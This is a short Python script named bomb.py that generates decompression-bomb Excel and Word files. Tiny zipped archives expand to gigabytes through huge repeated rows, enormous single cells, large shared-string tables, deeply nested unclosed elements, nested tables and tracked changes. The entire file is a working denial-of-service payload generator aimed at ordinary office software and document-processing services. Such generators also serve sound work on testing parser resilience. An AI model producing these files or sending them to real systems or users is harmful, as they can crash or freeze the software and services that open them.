#!/usr/bin/python3
"""bomb.py KIND FILE: a small archive that unpacks to gigabytes, as a workbook (FILE.xlsx) or a Word file (FILE.docx)."""
import sys
import zipfile

PACKAGE = 'http://schemas.openxmlformats.org/package/2006/'
OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
MAIN = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main'
WORD = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'


def relations(*targets):
    """The relationships of a part: kind and target."""
    each = ''.join('<Relationship Id="r%d" Type="%s/%s" Target="%s"/>' % (i + 1, OFFICE, kind, target)
                   for i, (kind, target) in enumerate(targets))
    return '<Relationships xmlns="%srelationships">%s</Relationships>' % (PACKAGE, each)


def put(book, name, head, piece, times, tail):
    """A part of many equal pieces."""
    info = zipfile.ZipInfo(name)
    info.compress_type = zipfile.ZIP_DEFLATED
    with book.open(info, 'w', force_zip64=True) as part:
        part.write(head.encode())
        for _ in range(times):
            part.write(piece.encode())
        part.write(tail.encode())


def workbook(book, piece, times, text='', texts=0):
    """One sheet of such pieces, and as many shared texts."""
    shared = [('sharedStrings', 'sharedStrings.xml')] if text else []
    book.writestr('_rels/.rels', relations(('officeDocument', 'xl/workbook.xml')))
    book.writestr('xl/workbook.xml', '<workbook xmlns="%s" xmlns:r="%s"><sheets><sheet name="a" sheetId="1" r:id="r1"/>'
                  '</sheets></workbook>' % (MAIN, OFFICE))
    book.writestr('xl/_rels/workbook.xml.rels', relations(('worksheet', 'worksheets/sheet1.xml'), *shared))
    put(book, 'xl/worksheets/sheet1.xml', '<worksheet xmlns="%s"><sheetData>' % MAIN, piece, times,
        '</sheetData></worksheet>')
    if text:
        put(book, 'xl/sharedStrings.xml', '<sst xmlns="%s">' % MAIN, text, texts, '</sst>')


def document(book, piece, times):
    """A body of such pieces."""
    book.writestr('_rels/.rels', relations(('officeDocument', 'word/document.xml')))
    put(book, 'word/document.xml', '<w:document xmlns:w="%s"><w:body>' % WORD, piece, times, '</w:body></w:document>')


KINDS = {
    'rows': (workbook, '<row><c><v>1</v></c></row>' * 10000, 4000),
    'blanks': (workbook, ' ' * 1000000, 2000),
    'one-cell': (workbook, '<row><c t="inlineStr"><is><t>' + 'x' * 100000000 + '</t></is></c></row>', 10),
    'texts-again': (workbook, '<row>' + '<c t="s"><v>0</v></c>' * 20 + '</row>', 20000,
                    '<si><t>' + 'y' * 30000 + '</t></si>', 1000),
    'texts': (workbook, '<row><c t="s"><v>0</v></c></row>', 10, '<si><t>y</t></si>' * 10000, 3000),
    'cells': (workbook, ('<row>' + '<c t="inlineStr"><is><t>abc def</t></is></c>' * 39 + '</row>') * 1000, 100),
    'depth': (workbook, '<a>' * 10000, 1000),
    'paragraphs': (document, '<w:p><w:r><w:t>a</w:t></w:r></w:p>' * 10000, 2000),
    'spaces': (document, ' ' * 1000000, 2000),
    'one-word': (document, '<w:p><w:r><w:t>' + 'x' * 100000000 + '</w:t></w:r></w:p>', 10),
    'tables': (document, '<w:tbl><w:tr><w:tc>' * 1000, 300),
    'changes': (document, '<w:p><w:ins w:id="1" w:author="A"><w:r><w:t>a</w:t></w:r></w:ins></w:p>' * 10000, 1000),
}

TYPE = 'application/vnd.openxmlformats-'
PARTS = {workbook: ('/xl/workbook.xml', 'spreadsheetml.sheet'),
         document: ('/word/document.xml', 'wordprocessingml.document')}

with zipfile.ZipFile(sys.argv[2], 'w', zipfile.ZIP_DEFLATED) as made:
    made.writestr('[Content_Types].xml', '<Types xmlns="%scontent-types"><Default Extension="rels" ContentType="%spackage.'
                  'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="%s" '
                  'ContentType="%sofficedocument.%s.main+xml"/></Types>'
                  % (PACKAGE, TYPE, PARTS[KINDS[sys.argv[1]][0]][0], TYPE, PARTS[KINDS[sys.argv[1]][0]][1]))
    make, *rest = KINDS[sys.argv[1]]
    make(made, *rest)
